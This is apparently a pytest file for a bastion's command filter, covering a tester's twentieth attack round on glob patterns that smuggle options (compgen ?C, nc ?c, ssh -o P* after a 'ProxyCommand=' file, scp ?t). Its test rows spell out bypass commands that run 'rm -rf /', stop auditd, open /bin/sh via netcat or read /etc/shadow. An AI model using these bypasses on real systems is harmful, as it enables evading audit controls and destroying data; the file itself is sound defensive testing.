"""Attack k20f (the twentieth round on the command filter), findings 4, 5, 6 and 13: a pattern
where an option may stand, for programs the collector has a handler for (bash's builtins, fd,
elvish, bpftrace, nodemon, sbatch, nix-shell, nc, ttyrec, asciinema, scp), scp's server mode
behind a pattern or a run-time word (the bastion then cannot follow its stream), and a pattern
where a word names a setting or a variable (`ssh -o P*` after `touch 'ProxyCommand=CMD'`,
`declare P*`, `alias l*`, `read P*`). The tester's lines and their siblings, held or refused
typed and as an exec command; the honest lines beside them that still run; and the exec
command `scp ?t DEST` end to end."""

from __future__ import annotations

import pytest

from bastion.command_control import scp
from bastion.command_control.policy import evaluate
from bastion.ssh import judge
from tests.harness import LOGIN, World
from tests.policy_rows import assert_held_or_runs
from tests.rows import each
from tests.test_channels import POLICY

HELD = ("deny", "confirm")

ROWS = [
    # F4 bash builtins with a handler (each after `touch ./-C`, `./-x`... in the directory)
    "compgen ?C 'rm -rf /' x", "compgen [-]C 'rm -rf /' x", "compgen -[C] 'rm -rf /' x",
    "mapfile ?C 'rm -rf /' ?c 1 a < /etc/hosts", "mapfile -n 1 ?C 'rm -rf /' a < /etc/hosts",
    "readarray ?C 'rm -rf /' a < /etc/hosts", "complete ?C 'rm -rf /' ls",
    "jobs ?x systemctl stop auditd", "builtin jobs ?x systemctl stop auditd",
    "command compgen ?C 'rm -rf /' x",
    "declare ?n r=PROMPT_COMMAND; r='rm -rf /'", "local ?n r=PROMPT_COMMAND",
    "typeset ?n r=PROMPT_COMMAND", "readonly ?n r=PROMPT_COMMAND", "export ?n r=PROMPT_COMMAND",
    "declare [-]n r='a[$(systemctl stop auditd)]'; r=1", "command declare ?n r=PROMPT_COMMAND",
    "wait ?p 'a[$(systemctl stop auditd)]'", "hash ?p /tmp/evil ls", "enable ?f /tmp/evil.so x",
    "shopt ?u interactive_comments", "set ?k", "history ?s 'rm -rf /'",
    "bind ?x '\"\\C-t\": rm -rf /'", "setopt ?o autocd",
    # F6 handlers of other programs: a code option a file name spells (permuted ones too)
    "fd ?x rm -rf /", "fd foo ?x rm -rf /", "fd ?X rm -rf /", "fdfind ?x rm -rf /",
    "elvish ?c 'rm -rf /'", "elvish -norc ?c 'rm -rf /'", "bpftrace ?c 'rm -rf /' -e x",
    "bpftrace x ?c 'rm -rf /'", "nodemon ?x 'rm -rf /'", "sbatch ?-wrap 'rm -rf /'",
    "nix-shell ?-run 'rm -rf /'", "nc ?c 'rm -rf /' h 1", "ncat ?c 'rm -rf /' h 1",
    "netcat ?e /bin/sh h 1", "nc.traditional ?c 'rm -rf /' h 1", "ttyrec ?e 'rm -rf /'",
    "ttyrec ?a /etc/sudoers", "asciinema rec ?c 'rm -rf /'", "parallel ?S 'x h' gzip ::: a",
    "watch ?x rm -rf /", "sudo fd ?x rm -rf /", "xargs nc ?c 'rm -rf /' h",
    # F5 scp's server mode through a pattern (its stream would not be followed)
    "scp ?t /etc", "scp -[t] /etc", "scp [-]t /etc", "scp ?r ?t /etc", "scp ?r ?f /etc",
    "cd /tmp/w && scp ?t /etc", "scp *.log /etc",
    # F13 a pattern as a setting: ssh -o (and its kin), git -c, systemd-run -E
    "ssh -o P* h", "ssh -o * h", "ssh -oP* h", "ssh -vo P* h", "ssh -o P* -o BatchMode=yes h",
    "cd /tmp/w && touch 'ProxyCommand=systemctl stop auditd' && ssh -o P* h",
    "scp -o P* a h:b", "scp -o * a h:b", "sftp -o P* h", "rsync -e 'ssh -o P*' a h:b",
    "sftp -S * h", "scp -S ./x* a h:b", "sudo ssh -o P* h", "git -c c* log",
    "systemd-run -E B* bash x.sh", "systemd-run -EB* bash x.sh", "run0 -E B* bash x.sh",
    # the class: a pattern where a word names a variable or a declaration's NAME=VALUE
    "declare P*", "export B*", "local P*", "readonly P*", "typeset P*", "alias l*",
    "read P*", "read -r x P*", "read -a P*", "mapfile P*", "readarray P*", "getopts a P*",
    "wait -n -p P*",
]


@each("line", ROWS)
def test_attack_k20f_b_lines_are_held_or_refused_typed_and_as_exec_commands(default_policy, line):
    assert_held_or_runs(default_policy, line, held=True)


HONEST = [
    # the brief's list, and patterns among the words of the command a handler runs
    "ls *", "du -sh *", "grep -r x *", "rm *.log", "cp *.conf /srv/app/", "git add *",
    "tar czf x ./*", 'for f in *.log; do gzip "$f"; done', "sudo ls *", "xargs grep x *",
    "bash script.sh *.log", "python3 tool.py *.csv", "sudo -u www-data ls *",
    "timeout 5 grep x *", "nice -n 5 ls *", "nohup grep x * &", "setarch x86_64 ls *",
    "busybox ls *", "watch ls *", "parallel gzip ::: *.log", "parallel -j2 gzip ::: *.log",
    "sem gzip *.log", "flock /tmp/l ls *", "env ls *", "stdbuf -oL grep x *",
    "printf '%s\\n' *", "set -- *.log", "source x.sh *.log", "eval ls *", "echo *",
    "fd -e conf . /etc/nginx/*", "pueue add -- ls *",
    # builtins read literally, and names that are names
    "hash -r", "jobs -l", "shopt -s nullglob", "enable -n kill", "export LANG=C",
    "declare -a arr=(*.log)", "declare -x A=1 B=2", "export PATH=$PATH:/opt/x",
    "f() { local i; for i in *; do echo $i; done; }", "alias ll='ls -l'", "read -r line",
    "read -r a b c", "mapfile -t lines < f", "getopts ab opt", "wait -n -p pid",
    # a literal setting, and patterns written ./ or after --
    "scp ./*.log host:/tmp/", "scp -- *.log host:/tmp/", "ssh -o BatchMode=yes h",
    # the source side of a legacy scp: -f first, then what it sends (`scp -O h:'*.log' .`)
    "scp -f *.log", "scp -r -f *",
]


@each("line", HONEST)
def test_attack_k20f_b_honest_lines_keep_their_verdict(default_policy, line):
    """Allowed, or (scp, ssh copying out) only alerted as before."""
    assert evaluate(default_policy, line, role="engineer", target="web01").action in (
        "allow", "alert")


# -- finding 5: the gate's reading of scp in server mode ----------------------------------------

@each("line", [
    "scp ?t dest", "scp -[t] dest", "scp [-]t dest", "cd w && scp ?t dest", "x=-t; scp $x dest",
    'scp "$x" dest', "scp $(printf -- -t) dest", "scp -t ?f /etc/shadow", "scp ?r ?f /etc",
    "sudo scp ?t /etc", "scp -r -[t] dest", "scp ?r -f x",
])
def test_an_scp_whose_mode_is_not_literal_is_a_server_the_bastion_cannot_follow(line):
    assert scp.server_mode(line) is None
    assert judge.runs_file_server(line)


@each(("line", "followed", "server"), [
    ("scp -t /tmp", True, True), ("scp -r -t -- /tmp/x", True, True),
    ("scp -t $HOME/x", True, True), ("scp -f '/etc/*.conf'", True, True),
    ("scp -f *.log", True, True), ("scp -r -f *", True, True), ("scp -f ?t x", True, True),
    ("scp a b:", False, False), ("scp ./*.log host:", False, False),
    ("echo scp ?t x", False, False),
])
def test_literal_scp_servers_are_followed_as_before(line, followed, server):
    assert (scp.server_mode(line) is not None) is followed
    assert judge.runs_file_server(line) is server


# -- end to end: `scp ?t DEST` does not land a protected file ------------------------------------

EXEC = f"{LOGIN}@web01"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    w = World(tmp_path_factory.mktemp("k20fb"), policy=POLICY)
    yield w
    w.close()


@pytest.mark.integration
@pytest.mark.timeout(120)
@pytest.mark.parametrize("spelling", ["?t", "-[t]", "$x"])
def test_scp_server_behind_a_pattern_or_a_variable_lands_nothing(world, tmp_path, spelling):
    """After `touch ./-t` in the target's directory, the exec command's scp is `scp -t DEST`:
    the bastion cannot follow its stream, so the command gets the policy's unknown action
    (deny here) and the record naming protected.conf never reaches the target."""
    alice = world.person(f"alice{abs(hash(spelling)) % 10_000}")
    world.grant(alice, duration=3600)
    work, dest = tmp_path / "w", tmp_path / "dest"
    work.mkdir()
    dest.mkdir()
    (work / "-t").touch()
    data = b"EVIL LINE\n"
    stream = f"C0644 {len(data)} protected.conf\n".encode() + data + b"\0"
    r = alice.run(EXEC, f"x=-t; cd {work} && scp {spelling} {dest}", input=stream)
    assert r.returncode != 0
    assert b"file-transfer server" in r.stderr or b"denied" in r.stderr, r.stderr
    assert not (dest / "protected.conf").exists()
